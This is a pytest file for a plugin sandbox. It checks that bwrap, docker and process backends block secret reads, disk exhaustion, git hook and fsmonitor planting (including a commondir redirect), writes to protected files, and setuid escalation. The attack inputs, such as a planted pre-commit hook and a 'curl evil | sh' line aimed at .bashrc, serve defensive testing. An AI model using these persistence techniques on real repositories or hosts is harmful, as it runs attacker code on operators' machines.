"""The walls of a sandbox, attacked from inside and checked from the victim's side
(issue 12: "Inside an isolating sandbox", "Protected paths and privileges", "Disk
was not bounded"):

* bwrap shows the child only the host runtime: a secret in the project checkout or
  in the operator's home, and the state directory, are not there to read;
* /tmp and /dev/shm are the sandbox's own, writable by its uid, full at their size,
  and gone with it; on the process backend what its own uid left in the host's is
  removed when it stops;
* a workspace filled past `maxWorkspaceMb` gets the sandbox killed, reported as a
  memory kill is;
* a git hook and `core.fsmonitor` planted through exec cannot be written, and the
  operator's `git commit` afterwards runs nothing planted;
* the file tools refuse to write protected paths;
* a setuid-root binary gives no root (no_new_privs) on every backend.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import CLAWSUP, IN_CI, ROOT, TEST_PLUGINS, make_config, require_backend, workspace_config

WALLS = TEST_PLUGINS / "walls"
SECRET = f"walls-secret-{uuid.uuid4().hex}"
HOME = Path(os.path.expanduser("~"))


def walls_config(backend: str, **sandbox: Any) -> dict[str, Any]:
    """basics (trusted, on process) beside the hostile `walls` plugin on `backend`
    (trusted only where the process backend needs it)."""
    cfg = make_config()
    cfg["plugins"]["load"]["paths"].append(str(WALLS))
    entry: dict[str, Any] = {"sandbox": {"backend": backend, **sandbox}}
    if backend == "process":
        entry["trust"] = "trusted"
    cfg["plugins"]["entries"]["walls"] = entry
    return cfg


def result(resp: dict[str, Any]) -> Any:
    assert resp["ok"], resp
    return resp["data"]["result"]


def exec_run(backend: str, command: str, workspace: Path | None = None) -> subprocess.CompletedProcess[str]:
    args = [*CLAWSUP, "exec", "run", "--backend", backend]
    if workspace is not None:
        args += ["--workspace", str(workspace)]
    return subprocess.run([*args, "--", command], capture_output=True, text=True, timeout=120)


@pytest.fixture(scope="module")
def sentinels() -> Iterator[list[Path]]:
    """A secret in the project checkout and one in the operator's home."""
    tag = uuid.uuid4().hex[:10]
    files = [ROOT / f".clawsup-test-secret-{tag}", HOME / f".clawsup-test-secret-{tag}"]
    for f in files:
        f.write_text(SECRET + "\n")
    yield files
    for f in files:
        f.unlink(missing_ok=True)


# -- what the runtime mounts ---------------------------------------------------------


def test_the_host_runtime_imports_nothing_of_the_supervisor() -> None:
    """bwrap binds `sandbox` and `clawsup` only; this is what makes that enough."""
    code = (
        "import sys, clawsup.sandbox.host.__main__, clawsup.sandbox.host.server, clawsup.sandbox.host.subagent\n"
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'supervisor', 'plugins', 'tests'}))"
    )
    r = subprocess.run([sys.executable, "-I", "-c", code], capture_output=True, text=True, timeout=60, cwd="/")
    assert r.returncode == 0 and r.stdout.strip() == "[]", r.stdout + r.stderr


def test_bwrap_binds_the_runtime_not_the_checkout_or_the_home() -> None:
    from clawsup.sandbox.launch.bwrap import runtime_paths

    paths = runtime_paths()
    assert str(ROOT) not in paths and str(HOME) not in paths
    for p in paths:
        assert not Path(p).is_relative_to(ROOT) or Path(p).relative_to(ROOT).parts[:1] in (("sandbox",), ("proto",)), p


def test_bwrap_plugin_sees_no_checkout_home_or_state(gateway_factory, sentinels: list[Path]) -> None:
    require_backend("bwrap")
    gw = gateway_factory(walls_config("bwrap"))
    looked = result(gw.call("walls_look", {"paths": [*map(str, sentinels), str(ROOT), str(HOME), str(ROOT / "supervisor"), str(ROOT / ".git"), str(gw.state / "clawsup.json"), str(gw.state / "logs"), str(gw.state)]}))
    assert SECRET not in json.dumps(looked)
    for f in sentinels:
        assert looked[str(f)] == {"exists": False}
    # The checkout shows only the way to the two runtime packages and this plugin.
    assert set(looked[str(ROOT)]["entries"]) <= {"sandbox", "proto", "tests"}, looked[str(ROOT)]
    assert not looked[str(ROOT / "supervisor")]["exists"] and not looked[str(ROOT / ".git")]["exists"]
    assert not any(e.startswith(".clawsup-test-secret") for e in looked[str(HOME)].get("entries", []))
    assert not looked[str(gw.state / "clawsup.json")]["exists"] and not looked[str(gw.state / "logs")]["exists"]
    assert "clawsup.json" not in looked[str(gw.state)].get("entries", [])
    assert gw.call("echo", {"text": "unharmed"})["ok"]


@pytest.mark.parametrize("backend", ["bwrap", "docker"])
def test_exec_sees_no_checkout_home_or_state(backend: str, sentinels: list[Path]) -> None:
    require_backend(backend)
    r = exec_run(backend, f"cat {sentinels[0]} {sentinels[1]} 2>&1; ls -a {ROOT} {HOME} 2>&1; ls {ROOT}/supervisor {ROOT}/.git 2>&1; true")
    assert r.returncode == 0, r.stderr
    assert SECRET not in r.stdout and ".clawsup-test-secret" not in r.stdout.replace(str(sentinels[0]), "").replace(str(sentinels[1]), "")
    assert r.stdout.count("No such file or directory") >= 4, r.stdout


# -- /tmp and /dev/shm -----------------------------------------------------------------


@pytest.mark.parametrize("backend", ["bwrap", "docker"])
def test_private_tmp_and_shm_are_writable_bounded_and_gone_with_the_sandbox(backend: str, gateway_factory) -> None:
    require_backend(backend)
    gw = gateway_factory(workspace_config(backend, agents__defaults__sandbox__tmpMb=8))
    gw.wait("workspace-main", "ready")
    name = f"walls-{uuid.uuid4().hex[:8]}"
    r = gw.exec(
        f"id -u; for d in /tmp /dev/shm; do touch $d/{name}-small && echo writable $d; "
        f"head -c 20971520 /dev/zero > $d/{name}-big; echo rc=$?; du -k $d/{name}-big; done 2>&1"
    )["output"]
    assert int(r.split()[0]) != 0 or os.geteuid() != 0, r
    assert "writable /tmp" in r and "writable /dev/shm" in r, r
    assert r.count("No space left on device") == 2 and "rc=0" not in r, r
    sizes = [int(line.split()[0]) for line in r.splitlines() if line.endswith(f"{name}-big")]
    assert len(sizes) == 2 and all(s <= 8 * 1024 for s in sizes), r
    # The host's own /tmp and /dev/shm never saw them.
    for d in ("/tmp", "/dev/shm"):
        assert not [n for n in os.listdir(d) if n.startswith(name)]
    gw.request(op="restart", sandbox="workspace-main", timeout=60)
    gw.wait("workspace-main", "ready")
    after = gw.exec(f"ls -a /tmp /dev/shm; df -k /tmp /dev/shm")["output"]
    assert name not in after, after


def test_process_backend_removes_what_its_uid_left_in_tmp_and_shm(gateway_factory, tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("a sandbox of its own uid needs a root supervisor")
    gw = gateway_factory(walls_config("process"))
    uid = gw.status("walls")["uid"]
    assert uid not in (None, 0), gw.status("walls")
    name = f"walls-{uuid.uuid4().hex[:8]}"
    # Victims: a root file beside the sandbox's, and a folder its link points to.
    victim_dir = Path(tempfile.mkdtemp(prefix=f"{name}-victim-"))
    (victim_dir / "keep").write_text("keep\n")
    root_file = Path("/tmp") / f"{name}-root"
    root_file.write_text("root's\n")
    try:

        def plant() -> None:
            out = result(gw.call("walls_run", {"argv": ["sh", "-c", (
                f"mkdir -p /tmp/{name}-dir/deep/er && echo x > /tmp/{name}-dir/deep/er/f && echo x > /tmp/{name}-file; "
                f"echo x > /dev/shm/{name}-shm; ln -s {victim_dir} /tmp/{name}-link; ln -s {victim_dir}/keep /dev/shm/{name}-link"
            )]}))  # fmt: skip
            assert out["code"] == 0, out
            mine = sorted(n for d in ("/tmp", "/dev/shm") for n in os.listdir(d) if n.startswith(name) and os.lstat(f"{d}/{n}").st_uid == uid)
            assert mine == [f"{name}-dir", f"{name}-file", f"{name}-link", f"{name}-link", f"{name}-shm"], mine

        def gone() -> None:
            left = [f"{d}/{n}" for d in ("/tmp", "/dev/shm") for n in os.listdir(d) if n.startswith(name)]
            assert sorted(left) == sorted([str(root_file), str(victim_dir)]), left
            assert (victim_dir / "keep").read_text() == "keep\n" and root_file.read_text() == "root's\n"

        plant()
        gw.request(op="restart", sandbox="walls", timeout=60)
        gone()
        plant()
        gw.stop()
        gone()
    finally:
        shutil.rmtree(victim_dir, ignore_errors=True)
        root_file.unlink(missing_ok=True)
        for d in ("/tmp", "/dev/shm"):
            for n in os.listdir(d):
                if n.startswith(name):
                    p = Path(d, n)
                    shutil.rmtree(p, ignore_errors=True) if p.is_dir() and not p.is_symlink() else p.unlink(missing_ok=True)


# -- the workspace's disk limit -----------------------------------------------------------


@pytest.mark.parametrize("backend", ["process", "bwrap", "docker"])
def test_filling_the_workspace_past_its_limit_kills_the_sandbox(backend: str, gateway_factory) -> None:
    require_backend(backend)
    gw = gateway_factory(walls_config(backend, maxWorkspaceMb=8, restart={"backoffInitialSeconds": 30, "backoffMaxSeconds": 30}))
    # A steady writer (1 MiB every 50 ms), as a runaway job would be: each file is
    # under RLIMIT_FSIZE, only their sum is too much.
    resp = gw.call("walls_fill", {"dir": ".", "mb": 200, "pause_ms": 50}, timeout=30)
    assert not resp["ok"] and resp["error"]["code"] == "sandbox_died", resp
    assert "disk limit: workspace over 8 MiB" in resp["error"]["message"], resp
    assert gw.call("echo", {"text": "still here"})["data"]["result"] == "still here"
    tools = gw.tools()
    assert not [n for n in tools if n.startswith("walls_")], tools
    last = gw.status("walls")["last_exit"]
    assert last["signal"] == 9 and last["reason"] == "disk limit: workspace over 8 MiB", last
    assert "was killed by SIGKILL (disk limit: workspace over 8 MiB)" in gw.log("walls")
    # Killed once it held about the limit (what else the workspace holds counts too),
    # well before the 200 MiB it meant to write.
    used = sum(f.stat().st_size for f in (gw.state / "sandboxes" / "walls" / "workspace").glob("fill-*"))
    assert 7 * 2**20 < used < 150 * 2**20, used


# -- protected paths: git hooks and config --------------------------------------------------


def git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {"PATH": os.environ["PATH"], "HOME": str(repo.parent), "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "op", "GIT_AUTHOR_EMAIL": "op@example.com", "GIT_COMMITTER_NAME": "op", "GIT_COMMITTER_EMAIL": "op@example.com"}
    return subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), *args], capture_output=True, text=True, timeout=60, env=env)


def make_repo(path: Path, *, template: bool = True, linked_hook: bool = False) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    assert git(path, "init", "-q", *([] if template else ["--template="])).returncode == 0
    (path / "README").write_text("hello\n")
    if linked_hook:
        # A common way to share hooks: the hook is a link into the tracked scripts.
        (path / "scripts").mkdir()
        (path / "scripts" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
        (path / "scripts" / "pre-commit").chmod(0o755)
        os.symlink("../../scripts/pre-commit", path / ".git" / "hooks" / "pre-commit")
    assert git(path, "add", "-A").returncode == 0
    assert git(path, "commit", "-q", "-m", "first").returncode == 0, git(path, "status")
    return path


def plant_command(marker: Path) -> str:
    hook = f"#!/bin/sh\\necho pwned > {marker}\\n"
    return "; ".join([
        "mkdir -p .git/hooks",
        f"printf '{hook}' > .git/hooks/pre-commit",
        "chmod +x .git/hooks/pre-commit",
        f"printf '{hook}' > scripts/pre-commit",
        f"printf '[core]\\n\\tfsmonitor = echo pwned > {marker}.fsmonitor\\n' >> .git/config",
        f"(command -v git >/dev/null && git config core.fsmonitor 'echo pwned > {marker}.fsmonitor')",
        "rm -rf .git/hooks",
        "mv .git .git-aside",
        f"mkdir -p .git2/hooks && printf '{hook}' > .git2/hooks/pre-commit && echo 'gitdir: .git2' > .git",
        # git takes config and hooks from where commondir points (an attack found after
        # .git/hooks and .git/config alone were protected).
        f"cp -r .git .evilgit; printf '{hook}' > .evilgit/hooks/pre-commit; chmod +x .evilgit/hooks/pre-commit",
        f"printf '[core]\\n\\tfsmonitor = echo pwned > {marker}.fsmonitor\\n' >> .evilgit/config",
        "echo ../.evilgit > .git/commondir",
        "echo '[core]' > .git/config.worktree",
        "ls -la .git .git/hooks",
        "true",
    ])  # fmt: skip


def assert_commit_runs_nothing_planted(repo: Path, marker: Path, config_before: bytes) -> None:
    assert (repo / ".git").is_dir() and not (repo / ".git-aside").exists()
    assert (repo / ".git" / "config").read_bytes() == config_before
    assert not (repo / ".git" / "hooks" / "pre-commit").exists() or (repo / ".git" / "hooks" / "pre-commit").is_symlink()
    r = git(repo, "commit", "-q", "--allow-empty", "-m", "after the sandbox")
    assert r.returncode == 0, r.stderr
    assert git(repo, "status", "--short").returncode == 0
    assert not marker.exists() and not Path(f"{marker}.fsmonitor").exists(), "planted code ran on the host"


@pytest.mark.parametrize("kind", ["plain", "no-hooks-folder", "linked-hook"])
def test_hooks_planted_through_bwrap_exec_run_never_run_on_the_host(kind: str, tmp_path: Path) -> None:
    """The exact attack: `clawsup exec run --workspace <repo>` on bwrap, then the
    operator's `git commit`. Victim: a marker file that the planted code would write."""
    require_backend("bwrap")
    repo = make_repo(tmp_path / "repo", template=kind != "no-hooks-folder", linked_hook=kind == "linked-hook")
    marker = tmp_path / "marker"
    config_before = (repo / ".git" / "config").read_bytes()
    scripts_before = (repo / "scripts" / "pre-commit").read_bytes() if kind == "linked-hook" else None
    r = exec_run("bwrap", plant_command(marker), workspace=repo)
    assert r.returncode == 0, r.stderr
    if scripts_before is not None:
        assert (repo / "scripts" / "pre-commit").read_bytes() == scripts_before
    assert_commit_runs_nothing_planted(repo, marker, config_before)
    # What stopped it: read-only mounts, and folders that cannot be moved aside.
    assert "Read-only file system" in r.stdout + r.stderr and "busy" in r.stdout + r.stderr, r.stdout + r.stderr


def test_hooks_planted_in_a_docker_workspace_never_run_on_the_host(gateway_factory, tmp_path: Path) -> None:
    require_backend("docker")
    gw = gateway_factory(workspace_config("docker"))
    gw.wait("workspace-main", "ready")
    repo = make_repo(gw.workspace())
    st = repo.stat()
    # The sandbox's own files, as everything it writes is: only the mounts stop it.
    subprocess.run(["chown", "-R", f"{st.st_uid}:{st.st_gid}", str(repo)], check=True)
    config_before = (repo / ".git" / "config").read_bytes()
    marker = tmp_path / "marker"
    gw.request(op="restart", sandbox="workspace-main", timeout=60)
    gw.wait("workspace-main", "ready")
    r = gw.exec(f"{{ {plant_command(marker)}; }} 2>&1")
    assert_commit_runs_nothing_planted(repo, marker, config_before)
    assert "Read-only file system" in r["output"] and "busy" in r["output"], r


def test_protected_paths_that_cannot_be_mounted_read_only_refuse_the_launch(tmp_path: Path) -> None:
    """A link at a protected path could be re-pointed, and a second name of a
    protected file could be written: the sandbox does not start, and says why."""
    require_backend("bwrap")
    linked = make_repo(tmp_path / "linked")
    os.symlink("/etc/passwd", linked / ".bashrc")
    r = exec_run("bwrap", "touch ran", workspace=linked)
    assert r.returncode != 0 and ".bashrc is a symlink" in r.stderr and "sandbox.protectedPaths" in r.stderr, r.stderr
    assert not (linked / "ran").exists()
    twice = make_repo(tmp_path / "twice")
    os.link(twice / ".git" / "config", twice / "config-copy")
    r = exec_run("bwrap", "touch ran", workspace=twice)
    assert r.returncode != 0 and "config has 1 other hard link(s)" in r.stderr, r.stderr
    assert not (twice / "ran").exists()


def test_a_gitfile_is_protected_in_place_of_its_folder(tmp_path: Path) -> None:
    """In a worktree or submodule `.git` is a file naming the real gitdir; rewritten,
    it would point git at one of the child's making."""
    require_backend("bwrap")
    main = make_repo(tmp_path / "main")
    assert git(main, "worktree", "add", "-q", str(tmp_path / "tree")).returncode == 0
    gitfile = tmp_path / "tree" / ".git"
    before = gitfile.read_bytes()
    marker = tmp_path / "marker"
    r = exec_run("bwrap", f"mkdir -p evil/hooks && printf '#!/bin/sh\necho pwned > {marker}\n' > evil/hooks/pre-commit; echo 'gitdir: evil' > .git; rm -f .git; true", workspace=tmp_path / "tree")
    assert r.returncode == 0, r.stderr
    assert gitfile.read_bytes() == before, r.stdout + r.stderr
    assert git(tmp_path / "tree", "commit", "-q", "--allow-empty", "-m", "x").returncode == 0
    assert not marker.exists()


# -- protected paths: the file tools ----------------------------------------------------------


@pytest.mark.parametrize("backend", ["process", "bwrap"])
def test_file_tools_refuse_to_write_protected_paths(backend: str, gateway_factory) -> None:
    require_backend(backend)
    gw = gateway_factory(workspace_config(backend))
    gw.wait("workspace-main", "ready")
    ws = gw.workspace()
    (ws / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / ".bashrc").write_text("# the operator's\n")
    os.symlink(".git", ws / "lnk")
    st = ws.stat()
    # The sandbox's own files, as everything it writes is: only the tools' refusal stops it.
    subprocess.run(["chown", "-R", "-h", f"{st.st_uid}:{st.st_gid}", str(ws)], check=True)
    attempts = [
        ("write", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\necho pwned\n"}),
        ("write", {"path": "./.git//hooks/../hooks/post-checkout", "content": "x"}),
        ("write", {"path": str(ws / ".git" / "config") if backend == "process" else "/workspace/.git/config", "content": "x"}),
        ("write", {"path": "lnk/hooks/pre-commit", "content": "x"}),
        ("write", {"path": ".bashrc", "content": "curl evil | sh\n"}),
        ("edit", {"path": ".bashrc", "old_string": "operator", "new_string": "attacker"}),
        ("edit", {"path": ".git/config", "old_string": "bare = false", "new_string": "fsmonitor = evil"}),
        ("write", {"path": ".zshenv", "content": "x"}),
    ]
    for tool, args in attempts:
        resp = gw.call(tool, args)
        assert not resp["ok"] and "is protected" in resp["error"]["message"], (tool, args, resp)
    assert not (ws / ".git" / "hooks" / "pre-commit").exists() and not (ws / ".zshenv").exists()
    assert (ws / ".bashrc").read_text() == "# the operator's\n"
    assert (ws / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    # Reading is fine, and so is writing anything else.
    assert result(gw.call("read", {"path": ".bashrc"})) == "# the operator's\n"
    assert gw.call("write", {"path": "notes/ok.txt", "content": "fine"})["ok"]
    # The whole of .git is protected by default (commondir, config.worktree and
    # worktrees/ would point git at config and hooks of the child's making).
    for path in (".git/description", ".git/commondir", ".git/config.worktree"):
        resp = gw.call("write", {"path": path, "content": "../evil"})
        assert not resp["ok"] and "is protected" in resp["error"]["message"], (path, resp)


# -- setuid binaries ------------------------------------------------------------------------------


def setuid_copy(folder: Path) -> Path:
    """A setuid-root copy of id(1), owned by root, mode 4755."""
    target = folder / "suid-id"
    shutil.copy("/usr/bin/id", target)
    os.chown(target, 0, 0)
    target.chmod(0o4755)
    return target


@pytest.mark.parametrize("backend", ["process", "bwrap", "docker"])
def test_setuid_root_binary_gives_no_root(backend: str, gateway_factory) -> None:
    if os.geteuid() != 0:
        pytest.skip("making a setuid-root binary needs root")
    require_backend(backend)
    # The control: without no_new_privs, an unprivileged user does get euid 0 from it.
    open_dir = Path(tempfile.mkdtemp(prefix="walls-suid-"))
    try:
        open_dir.chmod(0o755)
        control = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", str(setuid_copy(open_dir)), "-u"], capture_output=True, text=True, timeout=30)
        assert control.stdout.strip() == "0", control
    finally:
        shutil.rmtree(open_dir)
    gw = gateway_factory(walls_config(backend))
    ws = gw.state / "sandboxes" / "walls" / "workspace"
    setuid_copy(ws)
    out = result(gw.call("walls_run", {"argv": ["./suid-id"]}))
    assert out["code"] == 0, out
    ids = dict(part.split("=", 1) for part in out["stdout"].split())
    assert "euid" not in ids and not ids["uid"].startswith("0("), out  # id(1) names euid only when it differs
    nnp = result(gw.call("walls_run", {"argv": ["grep", "NoNewPrivs", "/proc/self/status"]}))
    assert nnp["stdout"].split() == ["NoNewPrivs:", "1"], nnp


def test_a_folder_the_supervisor_cannot_read_counts_as_over_the_limit(tmp_path: Path) -> None:
    """A supervisor that is not root cannot look into a folder its child made 000; the
    data behind it once went uncounted. Measured here as an ordinary user (nobody),
    with Debian's Python (scripts/nonroot-setup.sh installs it)."""
    if os.geteuid() != 0 or not Path("/usr/bin/python3").exists():
        if IN_CI:
            pytest.fail("CI runs as root with /usr/bin/python3 (scripts/nonroot-setup.sh)")
        pytest.skip("needs root (to become nobody) and /usr/bin/python3")
    top = Path(tempfile.mkdtemp(prefix="cs-disk-", dir="/tmp"))  # pytest's own folders are 0700
    top.chmod(0o755)
    ws = top / "ws"
    (ws / "hidden").mkdir(parents=True)
    (ws / "hidden" / "big").write_bytes(b"x" * (4 * 2**20))
    subprocess.run(["chown", "-R", "65534:65534", str(ws)], check=True)
    (ws / "hidden").chmod(0)
    # The repository's folders as the installed namespace (as scripts/typecheck does):
    # Debian's Python has clawsup's dependencies but not the editable install's hook.
    tree = top / "tree" / "clawsup"
    tree.mkdir(parents=True)
    (tree / "__init__.py").symlink_to(ROOT / "proto" / "clawsup" / "__init__.py")
    for name, target in (("v1", ROOT / "proto" / "clawsup" / "v1"), ("supervisor", ROOT / "supervisor"), ("sandbox", ROOT / "sandbox")):
        (tree / name).symlink_to(target)
    code = (
        f"import sys; sys.path.insert(0, {str(tree.parent)!r})\n"
        "from pathlib import Path\n"
        "from clawsup.supervisor.sandboxes.disk_usage import WorkspaceDisk\n"
        f"print(WorkspaceDisk(Path({str(ws)!r}), 1024 * 1024)._walk(__import__('threading').Event()))\n"
    )
    try:
        r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-I", "-c", code], capture_output=True, text=True, timeout=60)
    finally:
        shutil.rmtree(top, ignore_errors=True)
    assert r.returncode == 0, r.stderr
    assert "disk limit: workspace folder 'hidden' cannot be read, so it cannot be measured" in r.stdout
